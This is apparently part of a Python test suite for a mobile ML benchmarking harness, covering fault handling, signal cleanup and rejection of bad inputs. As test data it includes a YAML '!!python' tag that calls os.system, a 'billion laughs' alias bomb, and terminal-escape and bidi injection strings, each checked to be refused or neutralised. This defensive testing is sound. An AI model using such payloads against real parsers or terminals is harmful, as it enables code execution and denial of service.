    """The phone lab's plan run once with ``arm(lab)`` applied first: its run id, its cells' peak memory and
    extra_json, and its report page."""
    with phone_lab(root, runs=1, timeout_s=300) as lab_:
        arm(lab_)
        proc = cli("run", str(lab_.plan), "--db", str(lab_.db), "-q", "--json", cwd=root)
        assert proc.returncode == 0, proc.stderr[-2000:]
        run_id = _run_id_of(proc)
        con = sqlite3.connect(lab_.db)
        rows = con.execute("SELECT status, peak_rss_mb, extra_json FROM cells WHERE run_id=?", (run_id,)).fetchall()
        con.close()
        report = cli("report", run_id, "--db", str(lab_.db), "-o", "rep", cwd=root)
        assert report.returncode == 0, report.stderr[-800:]
        return run_id, rows, (root / "rep" / "index.html").read_text()


@case("fault", "a phone whose toybox has no time applet (no peak memory)")
def _(root):
    # Wrapping every command in `toybox time -v` unasked would fail every command of such a phone: measured
    # as before instead, without a peak.
    _, rows, _ = _phone_night(root, lambda lab_: setattr(lab_.phone.faults, "toybox_without_time", True))
    assert len(rows) == 2 and all(status == "ok" and peak is None for status, peak, _ in rows), rows


@case("fault", "a phone on its charger (energy not measured)")
def _(root):
    # A charging battery's current is the charger's, not the phone's draw: marked, never reported as energy.
    _, rows, page = _phone_night(root, lambda lab_: setattr(lab_.phone, "charging", True))
    energies = [json.loads(extra)["energy"] for *_, extra in rows]
    assert all(e["mj_per_unit"] is None and e["not_measured"] == "charging" for e in energies), energies
    assert all(status == "ok" and peak > 0 for status, peak, _ in rows), rows
    assert "energy not measured: charging" in page


# -- encodings (a corpus or transcript that is not UTF-8) ---------------------------------------------------

@case("bad input", "corpus: a Kaldi text file that is not UTF-8")
def _(root):
    (root / "k").mkdir()
    wav(root / "k" / "a.wav")
    (root / "k" / "wav.scp").write_text("u1 a.wav\nu2 a.wav\n")
    (root / "k" / "text").write_bytes(b"u1 hello\nu2 caf\xe9\n")
    expect_user_error(cli("corpus", "import", "kaldi", "k", cwd=root), "text", line=2)


# -- faults: stopping the harness leaves nothing measuring -------------------------------------------------

def _slow_onnx(path: Path) -> Path:
    """A real ONNX model slow enough that a run lasts minutes: a 512x512 MatMul per iteration."""
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.full((512, 512), 0.001, dtype=np.float32), "w")
    graph = helper.make_graph([helper.make_node("MatMul", ["x", "w"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [512, 512])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [512, 512])], [weight])
    path.parent.mkdir(parents=True, exist_ok=True)
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9), path)
    return path


def _tagged_processes(tag: str) -> dict[int, tuple[int, str]]:
    """Every live process whose environment carries HARNESS_RUN_TAG=tag: pid -> (parent pid, command line).
    Children inherit the controller's environment, so this finds whatever the harness started, however deep."""
    wanted = f"HARNESS_RUN_TAG={tag}".encode()
    found = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:  # a zombie's environ reads empty: only processes still running are found
            if wanted in (entry / "environ").read_bytes().split(b"\0"):
                ppid = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
                found[int(entry.name)] = (ppid, (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode())
        except (OSError, ValueError, IndexError):
            pass
    return found


def _start_measuring(root: Path, tag: str, *extra: str, command: str = "run") -> subprocess.Popen:
    """`harness COMMAND` of a one-build plan whose runs last minutes, started with a tagged environment; returns
    once a measuring child exists (a process two levels below the controller: forked by the host's fork server)."""
    env = {**os.environ, "HARNESS_RUN_TAG": tag, "TMPDIR": str(root / "tmp")}
    proc = subprocess.Popen(harness_argv(command, "plan.yaml", "--db", "h.db", "-q", *extra),
                            cwd=root, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            preexec_fn=_default_sigint)
    deadline = time.monotonic() + 180
    while time.monotonic() < deadline and proc.poll() is None:
        tagged = _tagged_processes(tag)
        if any(ppid in tagged and ppid != proc.pid for ppid, _ in tagged.values()):
            return proc
        time.sleep(0.2)
    proc.kill()
    raise AssertionError(f"no measuring child appeared (exit {proc.poll()}): {proc.communicate()[1][-1500:]}")


def _nothing_tagged_survives(tag: str, within_s: float = 30) -> None:
    deadline = time.monotonic() + within_s
    while (left := _tagged_processes(tag)) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not left, f"still running {within_s:.0f} s after the harness ended: {left}"


def _signal_mid_measurement(root: Path, sig: int, command: str = "run") -> tuple[subprocess.Popen, str, str]:
    """Measure a slow build, send ``sig`` once it is measuring; returns the process, its stderr and the run id
    after checking that nothing it started (fork server, measuring child) outlives it."""
    import uuid

    (root / "tmp").mkdir(parents=True)
    (root / "devices.yaml").write_text("devices:\n  - {id: host, platform: host}\n")
    _slow_onnx(root / "builds" / "slow.onnx")
    # timeout_s far beyond the test: only the stop may end the measurement, not the plan's own timeout.
    (root / "plan.yaml").write_text("name: lab\ninventory: devices.yaml\nartifacts: [builds/slow.onnx]\n"
                                    "warmup_iterations: 0\niterations: 100000\nruns: 2\nthreads: 1\ntimeout_s: 3600\n")
    tag = uuid.uuid4().hex
    proc = _start_measuring(root, tag, command=command)
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=120)
    _nothing_tagged_survives(tag)
    (run_id,) = sqlite3.connect(root / "h.db").execute("SELECT run_id FROM runs").fetchone()
    return proc, err, run_id


def _run_status(root: Path, run_id: str) -> str:
    return sqlite3.connect(root / "h.db").execute("SELECT status FROM runs WHERE run_id=?", (run_id,)).fetchone()[0]


def _stopped_cleanly(root: Path, sig: int, wanted_exit: int, command: str = "run") -> None:
    proc, err, run_id = _signal_mid_measurement(root, sig, command)
    assert proc.returncode == wanted_exit, f"exit {proc.returncode}: {err[-1500:]}"
    assert f"--resume {run_id}" in err and "Traceback" not in err, err[-1500:]
    assert _run_status(root, run_id) == "interrupted"
    assert not list((root / "tmp").glob("harness-forks-*")), "the fork server's scratch folder was left behind"


@case("fault", "Ctrl-C while a model is measuring: nothing it started keeps running, exit 130")
def _(root):
    _stopped_cleanly(root, signal.SIGINT, 130)


@case("fault", "Ctrl-C while a cell is profiling: its last measured run is stored, --resume profiles it only")
def _(root):
    # Catches: the last measured run stored only once the cell's profiling ended (a Ctrl-C while profiling left
    # runs_done 1 of 2, and --resume measured run 2 again), and its finished_at taking in the profiling time.
    import uuid

    (root / "tmp").mkdir(parents=True)
    (root / "devices.yaml").write_text("devices:\n  - {id: host, platform: host}\n")
    _slow_onnx(root / "builds" / "slow.onnx")
    (root / "plan.yaml").write_text("name: lab\ninventory: devices.yaml\nartifacts: [builds/slow.onnx]\n"
                                    "warmup_iterations: 0\niterations: 20\nruns: 2\nprofile_runs: 1\nthreads: 1\n"
                                    "timeout_s: 3600\n")
    tag = uuid.uuid4().hex
    proc = subprocess.Popen(harness_argv("run", "plan.yaml", "--db", "h.db", "-q"), cwd=root,
                            env={**os.environ, "HARNESS_RUN_TAG": tag, "TMPDIR": str(root / "tmp")},
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, preexec_fn=_default_sigint)
    deadline = time.monotonic() + 180
    while not any("host_profile_worker" in cmd for _, cmd in _tagged_processes(tag).values()):
        assert proc.poll() is None and time.monotonic() < deadline, "no profiling process was seen"
        time.sleep(0.05)
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=120)
    _nothing_tagged_survives(tag)
    assert proc.returncode == 130 and "Traceback" not in err, err[-1500:]
    con = sqlite3.connect(root / "h.db")
    (run_id, status), = con.execute("SELECT run_id, status FROM runs").fetchall()
    measured = con.execute("SELECT run_index, started_at, finished_at, p50_ms FROM cell_runs ORDER BY 1").fetchall()
    runs_done, = con.execute("SELECT runs_done FROM cells").fetchone()
    profiled = con.execute("SELECT COUNT(*) FROM profile_runs").fetchone()[0]
    con.close()
    assert status == "interrupted" and runs_done == 2 and [r[0] for r in measured] == [0, 1], (runs_done, measured)
    assert profiled == 0  # the profile it was taking is the one thing lost
    again = cli("run", "plan.yaml", "--db", "h.db", "--resume", run_id, "-q", cwd=root)
    assert again.returncode == 0, again.stderr[-1500:]
    con = sqlite3.connect(root / "h.db")
    assert con.execute("SELECT run_index, started_at, finished_at, p50_ms FROM cell_runs ORDER BY 1").fetchall() \
        == measured, "the resume measured a stored run again"
    assert con.execute("SELECT COUNT(*) FROM profile_runs").fetchone()[0] == 1  # the resume took the profile
    assert con.execute("SELECT status FROM runs").fetchone()[0] == "complete"
    con.close()


@case("fault", "SIGTERM while a model is measuring: nothing it started keeps running, exit 143")
def _(root):
    _stopped_cleanly(root, signal.SIGTERM, 143)


@case("fault", "SIGKILL while a model is measuring: nothing it started keeps running, and --resume picks up")
def _(root):
    import uuid

    proc, err, run_id = _signal_mid_measurement(root, signal.SIGKILL)
    assert proc.returncode == -signal.SIGKILL
    assert list((root / "tmp").glob("harness-forks-*")), "SIGKILL cannot clean up: the scratch folder should be left"
    tag = uuid.uuid4().hex
    again = _start_measuring(root, tag, "--resume", run_id)  # measuring again: the run was resumable
    assert not list((root / "tmp").glob(f"harness-forks-{proc.pid}-*")), "the dead controller's folder stayed"
    again.send_signal(signal.SIGTERM)
    _, err = again.communicate(timeout=120)
    _nothing_tagged_survives(tag)
    assert again.returncode == 143 and f"--resume {run_id}" in err, f"exit {again.returncode}: {err[-1500:]}"
    assert _run_status(root, run_id) == "interrupted"


# -- inputs that cannot hurt (one YAML reader with limits, one validation for numbers, owned deletes) --------

QUICK_S = 10  # every bad input is answered within this, on a busy machine too


def refused_quickly(root: Path, *names: str, line: int | None = None, argv: tuple[str, ...] = ()) -> None:
    """Like bad_run, with the answer due within QUICK_S (a hang or an explosion fails on the timeout)."""
    db = stored_db(root)
    before = db.read_bytes()
    proc = cli(*(argv or ("run", str(root / "plan.yaml"), "--db", str(db), "-q")), cwd=root, timeout_s=QUICK_S)
    expect_user_error(proc, *names, line=line)
    assert db.read_bytes() == before, "the results database changed"


def _plan_with(root: Path, text: str) -> None:
    lab(root)
    p = root / "plan.yaml"
    p.write_text(p.read_text() + text)


def _laughs(levels: int) -> str:
    rows = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    rows += [f"l{i}: &l{i} [{','.join([f'*l{i - 1}'] * 9)}]" for i in range(1, levels)]
    return "\n".join(rows) + "\n"


@case("bad input", "plan: 101,000 plain keys (no aliases) is refused without blaming aliases")
def _(root):
    # Was: "more than 100000 values once its aliases (*name) are expanded ... use fewer nested aliases".
    lab(root)
    p = root / "plan.yaml"
    p.write_text(p.read_text() + "".join(f"k{i:06d}: 1\n" for i in range(101_000)))
    proc = cli("run", "plan.yaml", "--db", "h.db", "-q", cwd=root, timeout_s=QUICK_S)
    expect_user_error(proc, "plan.yaml", "100000 values")
    assert "alias" not in proc.stderr and not (root / "h.db").exists(), proc.stderr


@case("bad input", "plan: a billion laughs (nine levels of nested aliases in 400 bytes)")
def _(root):
    lab(root)
    (root / "plan.yaml").write_text("name: lab\ninventory: devices.yaml\nartifacts: [builds/tiny.onnx]\n"
                                    "description: x\n" + _laughs(9))
    # l5 is the first key past 100 000 values (9**6), on line 10
    refused_quickly(root, "plan.yaml", "aliases", line=10)


@case("bad input", "plan: an anchor that contains itself")
def _(root):
    _plan_with(root, "description: &d [a, *d]\n")
    refused_quickly(root, "plan.yaml", "contains it", line=8)


@case("bad input", "plan: a list used as a key")
def _(root):
    _plan_with(root, "[iterations, runs]: 3\n")
    refused_quickly(root, "plan.yaml", "key is a list", line=8)


@case("bad input", "plan: a key given twice (a second iterations: would start a multi-hour run)")
def _(root):
    _plan_with(root, "iterations: 300000\n")
    refused_quickly(root, "plan.yaml", "iterations", "twice", "line 5", line=8)


@case("bad input", "plan: a !!python tag")
def _(root):
    _plan_with(root, "description: !!python/object/apply:os.system ['touch pwned']\n")
    refused_quickly(root, "plan.yaml", "tagged", line=8)
    assert not (root / "pwned").exists()


@case("bad input", "plan: nested 5000 levels deep")
def _(root):
    _plan_with(root, "description: " + "[" * 5000 + "]" * 5000 + "\n")
    refused_quickly(root, "plan.yaml", "nested")


@case("bad input", "plan: a 6 MB file named plan.yaml")
def _(root):
    _plan_with(root, "# " + "x" * (6 << 20) + "\n")
    refused_quickly(root, "plan.yaml", "larger than")


@case("bad input", "plan: a NaN budget (it passed every cell and wrote bare NaN into nightly.json)")
def _(root):
    _plan_with(root, "budgets_p95_ms: {vad: .nan}\n")
    refused_quickly(root, "plan.yaml", "budgets_p95_ms.vad", "finite", line=8)


@case("bad input", "plan: iterations: true (YAML's true is not 1)")
def _(root):
    lab(root)
    p = root / "plan.yaml"
    p.write_text(p.read_text().replace("iterations: 3", "iterations: true"))
    refused_quickly(root, "plan.yaml", "iterations", "integer", line=5)


@case("bad input", "plan: a quoted number of runs")
def _(root):
    lab(root)
    p = root / "plan.yaml"
    p.write_text(p.read_text().replace("runs: 2", "runs: '2'"))
    refused_quickly(root, "plan.yaml", "runs", line=6)


@case("bad input", "plan: an infinite timeout, a negative seed, a 1000 degree cooldown")
def _(root):
    for extra, key in (("timeout_s: .inf\n", "timeout_s"), ("seed: -1\n", "seed"),
                       ("cooldown: {max_temp_c: 1000}\n", "cooldown.max_temp_c")):
        _plan_with(root / key, extra)
        refused_quickly(root / key, "plan.yaml", key, line=8)


@case("bad input", "plan: a chain whose mel, encoder and decoder are a VAD build")
def _(root):
    wav(root / "corpus" / "a.wav")
    corpus(root)
    _plan_with(root, "accuracy:\n  corpus: corpus\n  chains:\n    - name: c\n      mel: builds/tiny.onnx\n"
                     "      encoder: builds/tiny.onnx\n      decoder: builds/tiny.onnx\n")
    refused_quickly(root, "plan.yaml", "accuracy.chains[0].mel", "vad build", line=12)



def _android_entry(root: Path, lines: str) -> None:
    """An inventory of one Android phone ('phone', serial abc), then ``lines`` of its entry (4-space indented)."""
    (root / "devices.yaml").write_text("devices:\n  - id: phone\n    platform: android\n    serial: abc\n" + lines)

@case("bad input", "inventory: a tool path that is not there")
def _(root):
    # Was accepted at load; every night's cell then failed with FileNotFoundError.
    lab(root)
    _android_entry(root, "    tools: {onnxruntime_perf_test: /nonexistent/x}\n")
    refused_quickly(root, "devices.yaml", "devices[0].tools.onnxruntime_perf_test", "/nonexistent/x", line=5)


@case("bad input", "inventory: a tool that is an empty file (a failed copy)")
def _(root):
    # Was accepted; every cell then failed with "rebuild it with -DEXECUTORCH_ENABLE_LOGGING=ON" (the wrong fix).
    lab(root)
    (root / "executor_runner").write_bytes(b"")
    _android_entry(root, "    tools: {executor_runner: executor_runner}\n")
    refused_quickly(root, "devices.yaml", "devices[0].tools.executor_runner", "empty (0 bytes)", line=5)


@case("bad input", "plan: a timeout of 1e-300 s (YAML text) and of 0.00001 s")
def _(root):
    # Was: 1e-300 answered "write 1.0e-300", which was taken (every cell "did not finish within 1 s"); 0.00001
    # was taken and reached the phone as 'timeout ... 1e-05'.
    for number, text in enumerate(("1e-300", "0.00001")):
        _plan_with(root / str(number), f"timeout_s: {text}\n")
        refused_quickly(root / str(number), "plan.yaml", "timeout_s", "0.01", line=8)


@case("bad input", "plan: a sampling period of a microsecond and a budget of 1.0e-320 ms")
def _(root):
    for number, (text, key) in enumerate((("thermal_period_s: 0.000001", "thermal_period_s"),
                                          ("budgets_p95_ms: {vad: 1.0e-320}", "budgets_p95_ms.vad"))):
        _plan_with(root / str(number), text + "\n")
        refused_quickly(root / str(number), "plan.yaml", key, line=8)


@case("bad input", "nightly/run/calibrate: an invalid build manifest with --db in folders that do not exist yet")
def _(root):
    # Was: nightly created newf/sub/n.db (and its folders) to look for a baseline before checking the builds.
    lab(root)
    (root / "builds" / "tiny.onnx.manifest.json").write_text(json.dumps({"model": "tiny", "backend": "nonsense"}))
    for command in ("nightly", "run", "calibrate"):
        extra = ("-o", "night") if command == "nightly" else ()
        proc = cli(command, "plan.yaml", "--db", "newf/sub/n.db", *extra, "-q", cwd=root, timeout_s=QUICK_S)
        expect_user_error(proc, "tiny.onnx.manifest.json", "backend")
        assert not (root / "newf").exists(), f"{command} left {sorted(map(str, (root / 'newf').rglob('*')))}"


@case("bad input", "migrate: user_version says 4 but the tables are already the current version")
def _(root):
    # Was a traceback (sqlite3.OperationalError: table checks already exists), and a .v4.bak left behind.
    db = stored_db(root)
    con = sqlite3.connect(db)
    con.execute("PRAGMA user_version=4")
    con.commit()
    con.close()
    before = db.read_bytes()
    proc = cli("migrate", "--db", str(db), cwd=root, timeout_s=QUICK_S)
    from harness.store.db import SCHEMA_VERSION

    expect_user_error(proc, "h.db", "version 4", f"PRAGMA user_version={SCHEMA_VERSION}")
    assert db.read_bytes() == before, "the database changed"
    assert sorted(p.name for p in root.iterdir()) == ["h.db"], sorted(p.name for p in root.iterdir())


@case("bad input", "sim android --root where no folder can be made (/proc/x, under a file)")
def _(root):
    (root / "file").write_text("x")
    for place in ("/proc/x", str(root / "file" / "phone")):
        proc = cli("sim", "android", "--root", place, cwd=root, timeout_s=QUICK_S)
        expect_user_error(proc, place, "--root")


@case("bad input", "parse, wer and migrate: each fix fits the command and the input it was given")
def _(root):
    # Was: parse of any TOOL suggested "for executor_runner on Android, save 'adb logcat ...'"; wer on a folder
    # "copy a stream to a file first"; migrate of a missing --db "a command that only reads creates none".
    (root / "out.log").write_text("nothing a benchmark prints\n")
    (root / "refs").mkdir()
    for argv, wanted, unwanted in (
            (("parse", "onnxruntime_perf_test", "out.log"), "onnxruntime_perf_test", "logcat"),
            (("wer", "refs", "out.log"), "not of the folder", "stream"),
            (("migrate", "--db", "missing.db"), "migrate", "only reads")):
        proc = cli(*argv, cwd=root, timeout_s=QUICK_S)
        expect_user_error(proc, wanted)
        assert unwanted not in proc.stderr, (argv, proc.stderr)
    assert not (root / "missing.db").exists()


@case("bad input", "inventory: an adb port of 70000")
def _(root):
    lab(root)
    _android_entry(root, "    adb_port: 70000\n")
    refused_quickly(root, "devices.yaml", "adb_port", line=5)


@case("bad input", "inventory: a misspelt tool (onnxruntime_lib for onnxruntime_libs)")
def _(root):
    lab(root)
    _android_entry(root, "    tools:\n      onnxruntime_lib: /opt/ort/lib\n")
    refused_quickly(root, "devices.yaml", "tools.onnxruntime_lib", "onnxruntime_libs", line=6)


@case("bad input", "inventory: tools.onnxruntime_libs without the QNN EP's libraries, for an ort-qnn build")
def _(root):
    # Was found on the phone only, after the pushes: each ort-qnn cell failed loading the QNN EP.
    lab(root)
    (root / "builds" / "tiny.onnx.manifest.json").write_text(json.dumps({"model": "tiny", "backend": "ort-qnn"}))
    (root / "ort").mkdir()
    (root / "ort" / "libonnxruntime.so").write_text("stands in\n")
    (root / "perf_test").write_text("stands in\n")
    _android_entry(root, "    backends: [ort-qnn]\n    tools:\n      onnxruntime_perf_test: perf_test\n"
                         "      onnxruntime_libs: ort\n")
    refused_quickly(root, "devices.yaml", "libonnxruntime_providers_shared.so", "libonnxruntime_providers_qnn.so",
                    "--use_qnn", line=8)


@case("bad input", "inventory: an ort-qnn build on a phone without tools.qnn_sdk")
def _(root):
    # Was found while measuring: every ort-qnn cell failed after the night had started.
    lab(root)
    (root / "builds" / "tiny.onnx.manifest.json").write_text(json.dumps({"model": "tiny", "backend": "ort-qnn"}))
    (root / "perf_test").write_text("stands in\n")
    _android_entry(root, "    backends: [ort-qnn]\n    tools:\n      onnxruntime_perf_test: perf_test\n")
    refused_quickly(root, "devices.yaml", "tools.qnn_sdk", line=6)


@case("bad input", "inventory: a transcription chain on qnn on a phone without tools.qnn_sdk")
def _(root):
    # Was checked for latency cells only: the chain's cell failed once the night had started.
    lab(root)
    (root / "builds" / "w.pte").write_bytes(_tiny_pte_bytes().replace(b"XnnpackBackend", b"QnnBackend\0\0\0\0"))
    (root / "builds" / "w.pte.manifest.json").write_text(json.dumps(
        {"model": "w", "stage": "asr", "backend": "qnn", "quantization": "fp32"}))
    wav(root / "corpus" / "a.wav")
    corpus(root)
    (root / "whisper_runner").write_text("stands in\n")
    _android_entry(root, "    backends: [qnn]\n    tools:\n      whisper_runner: whisper_runner\n")
    plan = root / "plan.yaml"
    plan.write_text(plan.read_text() + "accuracy:\n  corpus: corpus\n  chains:\n    - {name: asr, model: builds/w.pte}\n")
    refused_quickly(root, "devices.yaml", "tools.qnn_sdk", "every qnn cell", line=6)


@case("bad input", "inventory: a list at the top level")
def _(root):
    lab(root)
    (root / "devices.yaml").write_text("- {id: host, platform: host}\n")
    refused_quickly(root, "devices.yaml", "not a list", line=1)
    proc = cli("run", str(root / "plan.yaml"), "--db", str(root / "h.db"), cwd=root, timeout_s=QUICK_S)
    assert "_File" not in proc.stderr, proc.stderr


@case("bad input", "inventory: a device id given twice in one entry")
def _(root):
    lab(root)
    (root / "devices.yaml").write_text("devices:\n  - id: host\n    platform: host\n    id: other\n")
    refused_quickly(root, "devices.yaml", "devices[0].id", "twice", line=4)


@case("bad input", "manifest: an input of 10**15 elements")
def _(root):
    lab(root)
    (root / "builds" / "tiny.onnx.manifest.json").write_text(json.dumps(
        {"model": "tiny", "inputs": [{"name": "x", "shape": [100000, 100000, 100000]}]}))
    refused_quickly(root, "tiny.onnx.manifest.json", "inputs")


@case("bad input", "manifest: NaN and a key given twice in JSON")
def _(root):
    lab(root)
    manifest = root / "builds" / "tiny.onnx.manifest.json"
    manifest.write_text('{"model": "tiny",\n "inputs": [{"name": "x", "shape": [1, 64], "value": NaN}]}')
    refused_quickly(root, "tiny.onnx.manifest.json", "NaN", line=2)
    manifest.write_text('{"model": "tiny",\n "model": "other"}')
    refused_quickly(root, "tiny.onnx.manifest.json", "twice", line=2)


@case("bad input", "model: a .pte cut short (an interrupted copy)")
def _(root):
    lab(root)
    data = _tiny_pte_bytes()
    (root / "builds" / "tiny.pte").write_bytes(data[: len(data) * 2 // 3])
    p = root / "plan.yaml"
    p.write_text(p.read_text().replace("[builds/tiny.onnx]", "[builds/tiny.pte]"))
    refused_quickly(root, "tiny.pte", "truncated")


@case("bad input", "--db: read-only commands with a mistyped database create nothing")
def _(root):
    root.mkdir(parents=True, exist_ok=True)
    for argv in (("runs", "--db", "typo.db"), ("runs", "--db", "a/b/c/h.db"),
                 ("report", "latest", "--db", "typo.db", "-o", "out"), ("export", "latest", "--db", "typo.db")):
        expect_user_error(cli(*argv, cwd=root, timeout_s=QUICK_S), argv[argv.index("--db") + 1])
    assert list(root.iterdir()) == [], "a read-only command created files"


@case("bad input", "options: NaN threshold, port 70000, limit 0")
def _(root):
    root.mkdir(parents=True, exist_ok=True)
    for argv in (("nightly", "plan.yaml", "--threshold", "nan"), ("lab", "join", "--head", "--port", "70000"),
                 ("runs", "--limit", "0"), ("zoo", "build", "-j", "-1")):
        expect_user_error(cli(*argv, cwd=root, timeout_s=QUICK_S), argv[-2])


@case("fault", "a user's folder inside the build cache beside --db survives the cache's pruning")
def _(root):
    plan = lab(root, runs=1)
    mine = root / "h-builds" / "my-exported-models"
    mine.mkdir(parents=True)
    (mine / "whisper.onnx").write_bytes(b"a user's own model")
    (root / "h-builds" / "notes.txt").write_text("mine")
    proc = cli("run", str(plan), "--db", str(root / "h.db"), "-q", cwd=root)
    assert proc.returncode == 0, proc.stderr[-1500:]
    assert (mine / "whisper.onnx").read_bytes() == b"a user's own model", "the build cache deleted a user's file"
    assert (root / "h-builds" / "notes.txt").exists()


@case("fault", "the same bytes measured under a second name are kept once, with no .partial left")
def _(root):
    plan = lab(root, runs=1)
    for name in ("tiny.onnx", "renamed.onnx"):  # tonight's build is last night's bytes under a new name
        if name != "tiny.onnx":
            (root / "builds" / "tiny.onnx").rename(root / "builds" / name)
            plan.write_text(plan.read_text().replace("builds/tiny.onnx", f"builds/{name}"))
        proc = cli("run", str(plan), "--db", str(root / "h.db"), cwd=root)
        assert proc.returncode == 0, proc.stderr[-1500:]
        assert "could not keep" not in proc.stderr and "Directory not empty" not in proc.stderr, proc.stderr[-1500:]
    assert not list((root / "h-builds").glob("*.partial")), "a .partial folder was left"


# -- store and output faults, corpora that are not what they claim, output integrity ------------------------

def _damage_samples_table(db: Path) -> None:
    """Scribble over the samples table's first page, as a failing disk or a copy cut short would."""
    con = sqlite3.connect(db)
    (page,) = con.execute("SELECT rootpage FROM sqlite_master WHERE name='samples'").fetchone()
    (page_size,) = con.execute("PRAGMA page_size").fetchone()
    con.close()
    with open(db, "r+b") as fh:
        fh.seek((page - 1) * page_size)
        fh.write(bytes([13, 0, 0, 0, 5, 0, 9, 9, 9, 9, 9, 9]))


@case("bad input", "--db: a database with damaged pages")
def _(root):
    lab(root)
    db = stored_db(root)
    _damage_samples_table(db)
    before = db.read_bytes()
    proc = cli("run", "plan.yaml", "--db", str(db), "-q", cwd=root)
    expect_user_error(proc, "h.db", "damaged", ".recover")
    assert db.read_bytes() == before, "a run was written into a damaged database"


@case("bad input", "plan: the same device listed twice")
def _(root):
    lab(root, "devices: [host, host]\n")
    bad_run(root, "plan.yaml", "host listed more than once", line=8)


@contextmanager
def _read_only_mount(root: Path, *seed: Path):
    """A tmpfs holding copies of ``seed``, remounted read-only (root needs no permission bits)."""
    disk = root / "ro"
    disk.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(disk)], capture_output=True)
    assert mounted.returncode == 0, f"cannot mount a tmpfs here: {mounted.stderr.decode()[-300:]}"
    try:
        for path in seed:
            shutil.copy(path, disk / path.name)
        subprocess.run(["mount", "-o", "remount,ro", str(disk)], check=True, capture_output=True)
        yield disk
    finally:
        subprocess.run(["umount", "-l", str(disk)], capture_output=True)


@case("fault", "the results database on a read-only mount")
def _(root):
    lab(root)
    with _read_only_mount(root, stored_db(root)) as disk:
        before = (disk / "h.db").read_bytes()
        proc = cli("run", "plan.yaml", "--db", str(disk / "h.db"), "-q", cwd=root)
        expect_user_error(proc, "h.db", "read-only")
        assert (disk / "h.db").read_bytes() == before


@case("bad input", "report -o on a read-only mount, -o an existing file; export -o an existing folder")
def _(root):
    db = stored_db(root)
    (root / "a-file").write_text("mine")
    (root / "a-folder").mkdir()
    expect_user_error(cli("report", "latest", "--db", str(db), "-o", "a-file", cwd=root), "a-file", "folder")
    assert (root / "a-file").read_text() == "mine"
    expect_user_error(cli("export", "latest", "--db", str(db), "-o", "a-folder", cwd=root), "a-folder")
    with _read_only_mount(root) as disk:
        expect_user_error(cli("report", "latest", "--db", str(db), "-o", str(disk / "rep"), cwd=root),
                          "rep", "Read-only")


@case("fault", "a file-size limit (ulimit -f) reached mid-run, then the --resume it names")
def _(root):
    import resource

    plan = lab(root)
    db = stored_db(root)
    kept = _runs_stored(db)

    def limited():
        resource.setrlimit(resource.RLIMIT_FSIZE, (32 * 1024, 32 * 1024))  # opens (a 32 KB WAL index), then fails

    proc = subprocess.run(harness_argv("run", str(plan), "--db", str(db), "-q"), cwd=root,
                          capture_output=True, text=True, preexec_fn=limited, timeout=300)
    expect_user_error(proc, "h.db", "ulimit -f", "--resume")
    assert _runs_stored(db)[:len(kept)] == kept
    run_id = proc.stderr.rsplit("--resume ", 1)[1].split()[0]
    again = cli("run", str(plan), "--db", str(db), "--resume", run_id, "-q", cwd=root)
    assert again.returncode == 0, again.stderr[-1500:]
    assert sqlite3.connect(db).execute("PRAGMA integrity_check").fetchone()[0] == "ok"


@case("fault", "two --resume of one run at once")
def _(root):
    from harness.store import Store

    plan = lab(root)
    db = stored_db(root)
    with Store(db) as store:
        run_id = store.runs(1)[0].run_id
        store.claim_run(run_id)  # as the first --resume does while it measures
        before = db.read_bytes()
        expect_user_error(cli("run", str(plan), "--db", str(db), "--resume", run_id, "-q", cwd=root),
                          "h.db", "another harness process")
        assert db.read_bytes() == before


def _corpus_of(root: Path, samples, duration_s: float = 0.5, **write_kwargs) -> Path:
    import soundfile as sf

    folder = corpus(root)
    sf.write(folder / "a.wav", samples, 16000, **write_kwargs)
    manifest = folder / "manifest.jsonl"
    manifest.write_text(manifest.read_text().replace('"duration_s": 0.5', f'"duration_s": {duration_s}'))
    return folder


def _tone():
    import numpy as np

    return (0.3 * np.sin(np.arange(8000) * 2 * np.pi * 220 / 16000)).astype("float32")


@case("bad input", "corpus: a FLAC file named .wav")
def _(root):
    _corpus_check(root, _corpus_of(root, _tone(), format="FLAC"), "a.wav", "FLAC", line=1)


@case("bad input", "corpus: a float WAV holding NaN samples")
def _(root):
    samples = _tone()
    samples[10:20] = float("nan")
    _corpus_check(root, _corpus_of(root, samples, subtype="FLOAT"), "a.wav", "NaN", line=1)


@case("bad input", "corpus: duration_s that disagrees with the audio")
def _(root):
    _corpus_check(root, _corpus_of(root, _tone(), duration_s=4.0), "duration_s", line=1)


@case("bad input", "corpus: silent audio is reported, not scored silently")
def _(root):
    proc = cli("corpus", "check", str(_corpus_of(root, _tone() * 0)), cwd=root)
    assert proc.returncode == 0 and "warning" in proc.stderr and "silent" in proc.stderr, proc.stderr[-800:]


@case("injection", "terminal escapes in a plan name, printed by harness runs")
def _(root):
    db = stored_db(root)
    con = sqlite3.connect(db)
    con.execute("UPDATE runs SET plan_name=?", ("lab\x1b]0;pwned\x07\x1b[2J\x9b31m\u202e",))
    con.commit()
    con.close()
    proc = cli("runs", "--db", str(db), cwd=root)
    assert proc.returncode == 0 and "lab\\x1b]0;pwned" in proc.stdout, proc.stdout
    assert not any(c in proc.stdout for c in "\x1b\x07\x9b\u202e"), repr(proc.stdout)


@case("injection", "control characters in a model name reach junit.xml, which stays well-formed")
def _(root):
    from xml.etree import ElementTree as ET

    plan = lab(root, model="tiny\x01\x1b[31m")
    proc = cli("nightly", str(plan), "--db", "h.db", "-o", "night", "-q", cwd=root)
    assert proc.returncode in (0, 1) and "Traceback" not in proc.stderr, proc.stderr[-1500:]
    names = [case.get("name") for case in ET.parse(root / "night" / "junit.xml").iter("testcase")]
